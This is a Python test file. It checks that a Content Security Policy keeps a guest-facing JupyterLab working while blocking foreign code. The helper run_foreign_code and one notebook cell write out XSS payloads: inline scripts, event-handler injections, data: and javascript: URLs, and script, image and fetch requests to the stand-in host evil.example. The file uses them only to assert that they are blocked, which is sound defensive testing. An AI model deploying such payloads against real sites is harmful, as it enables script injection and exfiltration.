"""JupyterLab under the policy that guests make necessary: it works, and nothing foreign runs."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.async_api import Page, expect

from tests.execution.test_limits import server_with
from tests.support.browser import Window
from tests.support.lab import open_lab
from tests.support.server import JupyterServer
from tests.support.trap import Trap

pytestmark = pytest.mark.browser

NOTEBOOK = {
    "cells": [
        {
            "cell_type": "code",
            "execution_count": None,
            "id": "first",
            "metadata": {},
            "outputs": [],
            "source": "from IPython.display import HTML, Image, display\n"
            "display(HTML('<b>bold</b><script>window.hacked = 1</script>'))\nprint(6 * 7)",
        },
        {"cell_type": "markdown", "id": "second", "metadata": {}, "source": "# Title\n$x^2$"},
    ],
    "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
    "nbformat": 4,
    "nbformat_minor": 5,
}


async def policy(server: JupyterServer, path: str = "lab") -> str:
    answer = await server.host.http.get(server.url + path)
    return str(answer.headers["content-security-policy"])


async def run_foreign_code(page: Page) -> list[str]:
    """Try what a payload would do once it is past every sanitizer; returns what worked."""
    tried: list[str] = await page.evaluate(
        """async () => {
          const worked = [];
          window.ran = name => worked.push(name);
          const add = html => document.body.insertAdjacentHTML('beforeend', html);
          const settled = element => new Promise(resolve => {
            element.onload = element.onerror = resolve;
            document.body.append(element);
          });
          add('<img src="x" onerror="ran(1)"><svg onload="ran(2)"></svg>');
          const script = document.createElement('script');
          script.textContent = 'ran("inline")';
          document.body.append(script);
          const remote = document.createElement('script');
          remote.src = 'https://evil.example/x.js';
          await settled(remote);
          const file = document.createElement('script');
          file.src = '/files/evil.js';
          await settled(file);
          const data = document.createElement('script');
          data.src = 'data:text/javascript,ran("data")';
          await settled(data);
          const image = document.createElement('img');
          image.src = 'https://evil.example/x.png';
          await settled(image);
          await fetch('https://evil.example/').then(() => ran('fetch'), () => undefined);
          const link = document.createElement('a');
          link.href = 'javascript:ran("link")';
          document.body.append(link);
          link.click();
          return worked;
        }"""
    )
    return tried


async def test_lab_works_under_its_policy(server: JupyterServer, trap: Trap) -> None:
    (server.root_dir / "work.ipynb").write_text(json.dumps(NOTEBOOK))
    (server.root_dir / "evil.js").write_text("ran('file')")
    lab = await open_lab(await Window.open(trap.browser), server, "work.ipynb")
    page = lab.page
    cell = page.locator(".jp-Notebook .jp-CodeCell").first
    await expect(page.locator("#jp-main-statusbar")).to_contain_text("| Idle")
    await cell.locator(".cm-content").click()
    await page.keyboard.press("Shift+Enter")
    await expect(cell.locator(".jp-OutputArea")).to_contain_text("42")
    await expect(
        page.locator(".jp-MarkdownOutput mjx-container, .jp-MarkdownOutput .MathJax")
    ).to_have_count(1)
    await page.locator('li[data-id="jupyter-codepad:panel"]').first.wait_for()
    # What jupyterlab itself complains about is not ours; no policy may be.
    complaints = [problem for problem in lab.problems if "Content Security Policy" in problem]
    # The one script of the host's own notebook that its policy stops.
    assert len(complaints) <= 1, complaints
    assert await page.evaluate("window.hacked") is None
    assert await run_foreign_code(page) == []
    assert trap.caught == []
    # The trap works: a page without a policy is caught.
    await page.goto("about:blank")
    await page.evaluate("fetch('http://evil.example/').catch(() => undefined)")
    assert trap.caught
    await lab.context.close()


async def test_every_page_of_lab_has_the_policy(server: JupyterServer) -> None:
    for path in ("lab", "lab/tree/x", "lab/workspaces/w", "doc/tree/x", "lab/nothing/here"):
        sent = await policy(server, path)
        assert "script-src 'self' 'unsafe-eval' 'sha256-" in sent, path
        assert "unsafe-inline' '" not in sent and "frame-ancestors 'self'" in sent, path
        assert sent.count("report-uri /api/security/csp-report") == 2, path


async def test_files_are_not_run(server: JupyterServer) -> None:
    (server.root_dir / "some.js").write_text("1")
    url = f"{server.url}files/some.js"
    for destination, status in (
        ("script", 403),
        ("worker", 403),
        ("document", 200),
        ("image", 200),
    ):
        answer = await server.host.http.get(url, headers={"Sec-Fetch-Dest": destination})
        assert answer.status_code == status, destination


@pytest.mark.parametrize("option", ["protect_lab", "allow_guests"])
async def test_the_policy_can_be_turned_off(tmp_path: Path, option: str) -> None:
    async with server_with(tmp_path, f"{option}=False") as server:
        assert "script-src" not in await policy(server)


async def test_an_own_policy_of_the_server_stays(tmp_path: Path) -> None:
    server = JupyterServer(tmp_path)
    config = server.home / "jupyter_config_dir" / "jupyter_server_config.py"
    config.write_text(
        "c = get_config()\nc.ServerApp.tornado_settings = {'headers': "
        "{'Content-Security-Policy': \"frame-ancestors https://school.example\"}}"
    )
    try:
        sent = await policy(await server.start())
    finally:
        await server.close()
    assert sent.startswith("frame-ancestors https://school.example, default-src 'self';")
    assert "report-uri" not in sent
